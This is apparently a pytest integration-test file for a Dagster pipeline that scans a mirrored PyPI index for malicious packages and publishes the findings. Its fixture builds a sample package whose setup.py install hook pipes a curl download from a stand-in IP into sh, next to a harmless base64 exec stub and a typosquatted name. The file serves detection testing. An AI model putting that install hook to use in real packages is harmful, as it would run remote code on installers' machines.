"""Global scans in Dagster: every bucket of a scan date over a real mirror on S3 and PostgreSQL, then the bundle."""

import hashlib
import io
import json
from datetime import date

import dagster as dg
import polars as pl
import psycopg
import pytest
import zstandard

from pypi_platform import scans as scans_cli
from pypi_platform.definitions import defs as load_definitions
from pypi_platform.defs.datasets.io_manager import PublishedDatasetIOManager
from pypi_platform.defs.io_managers import PolarsParquetIOManager
from pypi_platform.defs.resources import ObjectStoreResource, PostgresResource, ScannerResource
from pypi_platform.defs.scans.assets import (
    BUCKET_KEYS,
    SCANS_INDEX,
    build_global_scan,
    build_scan_dataset,
    scan_dates,
)
from pypi_platform.lib.config import load_settings
from pypi_platform.lib.publish import DatasetFile, publish, read_file
from pypi_platform.lib.scans.state import bucket_of
from pypi_platform_testkit.dists import build_sdist, build_wheel
from pypi_platform_tests.lib.mirror.helpers import sync

SCAN_DATE = "2026-11-16"
DATES = scan_dates(date(2026, 11, 2))
PARTITIONS = dg.MultiPartitionsDefinition(
    {"date": DATES, "bucket": dg.StaticPartitionsDefinition(BUCKET_KEYS)}
)
GLOBAL_SCAN = build_global_scan(PARTITIONS)
# The published counts global_scan reads its popular names from (published by the tests that need them).
DOWNLOAD_STATS = dg.AssetSpec("download_stats_30d").with_io_manager_key("dataset_io_manager")
SCAN_DATASET = build_scan_dataset(DATES)

SETUP_PY = """\
import os
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        os.system("curl -s http://203.0.113.9/x.sh | sh")


setup(name="evilpkg", cmdclass={"install": PostInstall})
"""
PAYLOAD = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"


@pytest.fixture
def mirrored(fake_index, s3_store, database, tmp_path):
    """Five projects: benign, malicious, a typosquat, one whose only file the filters skip, and one to lose."""
    fake_index.add_release("alpha", "1.0")
    fake_index.add_file(
        "evilpkg", *build_sdist("evilpkg", "0.1", modules={"setup.py": SETUP_PY, "evil/__init__.py": PAYLOAD})
    )
    fake_index.add_file("reqeusts", *build_wheel("reqeusts", "2.0"))
    fake_index.add_release("sdist-only", "1.0", wheel=False)
    fake_index.add_file("lost", *build_wheel("lost", "1.0"))
    report = sync(fake_index.url, s3_store, database, tmp_path, package_types=frozenset({"wheel", "sdist"}))
    assert report.projects_failed == 0
    with psycopg.connect(database) as conn:
        conn.execute("DELETE FROM mirror.files WHERE project = 'sdist-only'")  # as if the filters skipped it
        (lost_key,) = conn.execute("SELECT object_key FROM mirror.files WHERE project = 'lost'").fetchone()
    s3_store.delete([lost_key])  # the mirror's state names a file the store no longer has
    stats = pl.DataFrame({"package_name": ["requests", "alpha"], "downloads": [10**9, 5]})
    buffer = io.BytesIO()
    stats.write_parquet(buffer)
    publish(
        s3_store,
        "download_stats_30d",
        "v1",
        [DatasetFile("download_stats_30d.parquet", buffer.getvalue(), 2)],
    )
    return s3_store


def _resources(store, s3_endpoint, database, tmp_path) -> dict:
    object_store = ObjectStoreResource(url=store.url, endpoint_url=s3_endpoint)
    return {
        "object_store": object_store,
        "parquet_io_manager": PolarsParquetIOManager(object_store=object_store),
        "dataset_io_manager": PublishedDatasetIOManager(object_store=object_store),
        "postgres": PostgresResource(dsn=database),
        "scanner": ScannerResource(
            cache_dir=str(tmp_path / "scan-cache"), workers=2, timeout_seconds=60, memory_bytes=2**30
        ),
    }


def _scan_bucket(bucket: str, resources: dict) -> dg.ExecuteInProcessResult:
    key = dg.MultiPartitionKey({"date": SCAN_DATE, "bucket": bucket})
    return dg.materialize(
        [DOWNLOAD_STATS, GLOBAL_SCAN], partition_key=key, resources=resources, selection=[GLOBAL_SCAN]
    )


def _publish(resources: dict, **kwargs) -> dg.ExecuteInProcessResult:
    """scan_dataset of SCAN_DATE, its input read from the buckets' stored frames."""
    return dg.materialize(
        [DOWNLOAD_STATS, GLOBAL_SCAN, SCAN_DATASET],
        selection=[SCAN_DATASET],
        partition_key=SCAN_DATE,
        resources=resources,
        **kwargs,
    )


def _bucket_file(name: str) -> str:
    """Where the Parquet IO manager keeps the frame of the bucket holding `name` (dimensions sorted)."""
    return f"assets/global_scan/{bucket_of(name):02d}/{SCAN_DATE}.parquet"


def _failure(result: dg.ExecuteInProcessResult) -> str:
    failures = [event for event in result.all_events if event.is_step_failure]
    return "\n".join(str(event.step_failure_data.error) for event in failures)


def _metadata(result: dg.ExecuteInProcessResult) -> dict:
    [event] = result.get_asset_materialization_events()
    materialization = event.step_materialization_data.materialization
    return {key: value.value for key, value in materialization.metadata.items()}


def _records(store, manifest) -> dict[str, dict]:
    raw = zstandard.ZstdDecompressor().decompressobj().decompress(read_file(store, manifest, "dataset.zst"))
    return {record["name"]: record for record in map(json.loads, raw.splitlines())}


def test_a_scan_date_publishes_one_record_per_mirrored_project(mirrored, s3_endpoint, database, tmp_path):
    resources = _resources(mirrored, s3_endpoint, database, tmp_path)
    for bucket in BUCKET_KEYS:
        assert _scan_bucket(bucket, resources).success  # a failed package never fails its bucket

    result = _publish(resources, raise_on_error=False)
    assert result.success
    checks = {c.check_name: c for c in result.get_asset_check_evaluations()}
    assert checks["one_record_per_input"].passed
    assert not checks["failed_share"].passed  # 1 of 5 could not be fetched: over 2 %

    index = json.loads(mirrored.get_bytes(SCANS_INDEX))
    assert index["dataset"] == SCAN_DATE
    records = _records(mirrored, index)
    assert sorted(records) == ["alpha", "evilpkg", "lost", "reqeusts", "sdist-only"]
    assert {name: r["status"] for name, r in records.items()} == {
        "alpha": "ok",
        "evilpkg": "ok",
        "lost": "fetch-error",
        "reqeusts": "ok",
        "sdist-only": "no-files",
    }
    assert "sha256" in records["lost"]["error"] or "lost" in records["lost"]["error"]
    evil = records["evilpkg"]
    assert {"process.shell-download", "obfuscation.decode-and-exec", "install.cmdclass-override"} <= {
        d["rule"] for d in evil["detections"]
    }
    assert all(not d["path"].startswith("/") for d in evil["detections"])
    assert evil["score"] >= 90 > records["alpha"]["score"]
    assert [d["rule"] for d in records["reqeusts"]["detections"]] == ["metadata.typosquat"]
    # Only "requests" passes the download threshold: "alpha", with 5 downloads, is not worth imitating.
    assert records["reqeusts"]["typosquatting"]["popular_names"] == 1
    readme = read_file(mirrored, index, "README.txt").decode()
    assert "Typosquatting: checked against 1 projects with at least 1,000,000 downloads" in readme
    assert (
        records["alpha"]["files"][0]["sha256"]
        == hashlib.sha256(mirrored.get_bytes(_object_key(database, "alpha"))).hexdigest()
    )

    listing = read_file(mirrored, index, "input_packages.txt").decode().split()
    scanned = read_file(mirrored, index, "package_list.txt").decode().split()
    assert listing == sorted(records) and scanned == ["alpha", "evilpkg", "reqeusts"]
    joblog = read_file(mirrored, index, "joblog.txt").decode().splitlines()
    assert joblog[0].split("\t")[-2:] == ["Status", "Command"] and len(joblog) == 6
    assert {line.split("\t")[-1]: line.split("\t")[-2] for line in joblog[1:]}["lost"] == "fetch-error"
    findings = pl.read_parquet(io.BytesIO(read_file(mirrored, index, "findings.parquet")))
    assert set(findings.filter(pl.col("name") == "evilpkg")["rule"]) == {
        d["rule"] for d in evil["detections"]
    }
    # A project without findings, scanned or not, is one row with a null rule, its status saying which.
    rows = dict(findings.group_by("name").len().iter_rows())
    assert rows == {name: max(1, len(r["detections"])) for name, r in records.items()}
    quiet = findings.filter(pl.col("rule").is_null())
    assert set(quiet["name"]) == {name for name, r in records.items() if not r["detections"]}
    assert {("lost", "fetch-error", records["lost"]["error"]), ("sdist-only", "no-files", None)} <= set(
        quiet.select("name", "status", "error").iter_rows()
    )
    # The published table is the buckets' stored frames, row for row.
    stored = pl.concat(pl.read_parquet(io.BytesIO(mirrored.get_bytes(key))) for key in _bucket_keys(mirrored))
    assert findings.equals(stored.sort("name", maintain_order=True))
    sums = read_file(mirrored, index, "checksums.sha256.txt").decode().splitlines()
    for line in sums:
        digest, name = line.split("  ")
        assert hashlib.sha256(read_file(mirrored, index, name)).hexdigest() == digest
    assert b"ruleset version" in read_file(mirrored, index, "README.txt")


def _bucket_keys(store) -> list[str]:
    keys = list(store.list_keys("assets/global_scan/"))
    assert len(keys) == len(BUCKET_KEYS)  # empty buckets store an empty frame
    return keys


def test_scan_dataset_names_the_bucket_to_scan_again(mirrored, s3_endpoint, database, tmp_path):
    resources = _resources(mirrored, s3_endpoint, database, tmp_path)
    for bucket in BUCKET_KEYS:
        assert _scan_bucket(bucket, resources).success
    evil = f"{bucket_of('evilpkg'):02d}"

    # Scanned before global_scan returned its frame: PostgreSQL has the bucket, the object store has no file.
    mirrored.delete([_bucket_file("evilpkg")])
    failed = _publish(resources, raise_on_error=False)
    assert not failed.success
    # What the run's page shows: the step could not load its input, and why.
    assert (
        f"partition {evil}|{SCAN_DATE} of global_scan has not been stored (nothing at "
        f"{mirrored.uri(_bucket_file('evilpkg'))}); materialize it first"
    ) in _failure(failed)
    assert _scan_bucket(evil, resources).success

    # Saved by different runs: the stored frame says one status, the records in PostgreSQL another.
    with psycopg.connect(database) as conn:
        conn.execute("UPDATE scans.package_results SET status = 'timeout' WHERE name = 'alpha'")
    alpha = f"{bucket_of('alpha'):02d}"
    with pytest.raises(dg.Failure, match=f"materialize global_scan again for bucket {alpha}$"):
        _publish(resources)
    assert _scan_bucket(alpha, resources).success

    # A bucket PostgreSQL has no record of finishing.
    with psycopg.connect(database) as conn:
        conn.execute("DELETE FROM scans.buckets WHERE bucket = 7")
    with pytest.raises(dg.Failure, match="1 of 64 buckets of 2026-11-16 have not finished"):
        _publish(resources)
    assert _scan_bucket("07", resources).success
    assert _publish(resources, raise_on_error=False).success


def test_a_notebook_loads_a_buckets_findings(mirrored, s3_endpoint, database, tmp_path, monkeypatch):
    _cli_environment(monkeypatch, mirrored, s3_endpoint, database, tmp_path)
    definitions = load_definitions()
    key = dg.MultiPartitionKey({"date": SCAN_DATE, "bucket": f"{bucket_of('evilpkg'):02d}"})
    job = definitions.resolve_job_def("global_scan_job")
    assert job.execute_in_process(instance=dg.DagsterInstance.ephemeral(), partition_key=key).success

    frame = definitions.load_asset_value("global_scan", partition_key=key)

    evil = frame.filter(pl.col("name") == "evilpkg")
    assert {"process.shell-download", "obfuscation.decode-and-exec"} <= set(evil["rule"])
    assert set(evil.select("version", "status", "flagged").rows()) == {("0.1", "ok", True)}
    assert evil["package_score"].min() >= 90
    assert set(frame["name"]) == {
        n
        for n in ("alpha", "evilpkg", "lost", "reqeusts", "sdist-only")
        if bucket_of(n) == bucket_of("evilpkg")
    }


def test_a_rerun_reads_files_and_results_from_the_caches(mirrored, s3_endpoint, database, tmp_path):
    resources = _resources(mirrored, s3_endpoint, database, tmp_path)
    bucket = f"{bucket_of('evilpkg'):02d}"
    first = _metadata(_scan_bucket(bucket, resources))
    again = _metadata(_scan_bucket(bucket, resources))
    assert first["files_fetched"] >= 1 and again["files_fetched"] == 0
    assert again["files_from_local_cache"] == first["files_fetched"]
    with psycopg.connect(database) as conn:
        rows = conn.execute(
            "SELECT name, status, record->'coverage'->>'cached_files' FROM scans.package_results"
            " WHERE scan_date = %s AND bucket = %s",
            (date.fromisoformat(SCAN_DATE), int(bucket)),
        ).fetchall()
    assert ("evilpkg", "ok", "1") in rows  # its one file's result came from scans.file_results


def _object_key(database: str, project: str) -> str:
    with psycopg.connect(database) as conn:
        return conn.execute("SELECT object_key FROM mirror.files WHERE project = %s", (project,)).fetchone()[
            0
        ]


def _cli_environment(monkeypatch, store, s3_endpoint, database, tmp_path) -> None:
    monkeypatch.setenv("PYPI_PLATFORM_HOME", str(tmp_path))
    monkeypatch.setenv("PYPI_PLATFORM_DATABASE_URL", database)
    monkeypatch.setenv("PYPI_PLATFORM_STORAGE_URL", store.url)
    monkeypatch.setenv("PYPI_PLATFORM_S3_ENDPOINT_URL", s3_endpoint)
    monkeypatch.setenv("PYPI_PLATFORM_SCAN_START", "2026-11-02")
    monkeypatch.setenv("PYPI_PLATFORM_SCAN_WORKERS", "2")


def test_one_command_scans_a_date_and_publishes_it(
    mirrored, s3_endpoint, database, tmp_path, monkeypatch, capsys
):
    _cli_environment(monkeypatch, mirrored, s3_endpoint, database, tmp_path)
    instance = dg.DagsterInstance.ephemeral()
    # A Thursday names its week: the scan date is that Monday.
    assert scans_cli.main(["run", "--date", "2026-11-19", "--top", "3"], instance=instance) == 0
    captured = capsys.readouterr()
    assert "Scanning all 64 buckets of scan date 2026-11-16" in captured.err
    assert captured.out.startswith("Scanned 5 projects (1 fetch-error, 1 no-files, 3 ok), 2 flagged")

    runs = instance.get_run_records()
    partitions = {record.dagster_run.tags.get("dagster/partition") for record in runs}
    assert len(runs) == 65 and "2026-11-16" in partitions  # 64 bucket runs, then the dataset
    index = json.loads(mirrored.get_bytes(SCANS_INDEX))
    assert index["dataset"] == SCAN_DATE
    records = _records(mirrored, index)
    assert records["evilpkg"]["flagged"] and not records["alpha"]["flagged"]


def test_the_scan_command_reports_the_published_scan(mirrored, s3_endpoint, database, tmp_path, monkeypatch):
    _cli_environment(monkeypatch, mirrored, s3_endpoint, database, tmp_path)
    resources = _resources(mirrored, s3_endpoint, database, tmp_path)
    for bucket in BUCKET_KEYS:
        _scan_bucket(bucket, resources)
    _publish(resources, raise_on_error=False)
    out = io.StringIO()
    scans_cli.report(load_settings(), top=2, out=out)
    lines = out.getvalue().splitlines()
    assert lines[0].startswith("Scanned 5 projects (1 fetch-error, 1 no-files, 3 ok), 2 flagged")
    assert "evilpkg 0.1  flagged" in lines[2]
    assert "process.shell-download" in "\n".join(lines[3:6])


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["run", "--date", "2026-10-01"], "scan dates run from 2026-11-02"),
        (["run", "--date", "2099-01-05"], "scan dates run from 2026-11-02"),
        (["run", "--date", "yesterday"], "invalid fromisoformat value"),
        (["run", "--bucket", "64"], "a bucket is 00 to 63"),
    ],
)
def test_the_scan_command_rejects_bad_arguments(argv, message, monkeypatch, tmp_path, capsys):
    monkeypatch.setenv("PYPI_PLATFORM_HOME", str(tmp_path))
    monkeypatch.setenv("PYPI_PLATFORM_SCAN_START", "2026-11-02")
    monkeypatch.setenv("DAGSTER_HOME", str(tmp_path))
    with pytest.raises(SystemExit):
        scans_cli.main(argv)
    assert message in capsys.readouterr().err


def test_each_bucket_run_says_where_its_scan_date_stands(mirrored, s3_endpoint, database, tmp_path):
    resources = _resources(mirrored, s3_endpoint, database, tmp_path)
    buckets = sorted({f"{bucket_of(name):02d}" for name in ("alpha", "evilpkg")})
    for bucket in buckets:
        last = _metadata(_scan_bucket(bucket, resources))

    with psycopg.connect(database) as conn:
        (packages,) = conn.execute(
            "SELECT count(*) FROM scans.package_results WHERE scan_date = %s", (SCAN_DATE,)
        ).fetchone()
    assert last["scan_date"] == SCAN_DATE
    assert last["scan_date_buckets_finished"] == len(buckets)
    assert last["scan_date_so_far"].startswith(f"{len(buckets)} of 64 buckets finished; {packages} packages")
    assert sum(last["scan_date_statuses"].values()) == packages
